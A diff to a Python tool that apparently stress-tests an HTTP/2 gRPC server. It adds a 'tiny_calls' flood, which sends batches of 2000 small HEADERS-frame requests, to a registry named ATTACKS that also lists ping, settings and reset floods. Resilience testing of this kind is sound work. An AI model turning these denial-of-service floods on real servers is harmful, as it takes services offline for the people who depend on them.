@@ -104,6 +104,25 @@ def header_calls(address: str) -> None:
     repeat(address, batches, reads=True)
 
 
+def tiny_calls(address: str) -> None:
+    """Calls of a few bytes, as many as fit into each packet; their answers are read."""
+
+    def batches() -> Iterator[bytes]:
+        encoder = hpack.Encoder()
+        pairs = [
+            (":method", "POST"), (":scheme", "http"), (":authority", "test"),
+            (":path", SERVICE + "CountItems"), ("content-type", "application/grpc"),
+            ("te", "trailers"),
+        ]  # fmt: skip
+        for first in range(1, 1 << 30, 2000):
+            yield b"".join(
+                frame(HEADERS, encoder.encode(pairs), flags=END_HEADERS | END_STREAM, stream=stream)
+                for stream in range(first, first + 2000, 2)
+            )
+
+    repeat(address, batches, reads=True)
+
+
 def ping_flood(address: str) -> None:
     """Pings whose answers are not read."""
     repeat(address, lambda: iter(lambda: frame(PING, bytes(8)) * 5000, b""), reads=False)
@@ -265,6 +284,7 @@ ATTACKS: Final[dict[str, Callable[[str], None]]] = {
     for attack in (
         header_flood,
         header_calls,
+        tiny_calls,
         ping_flood,
         settings_flood,
         resets,
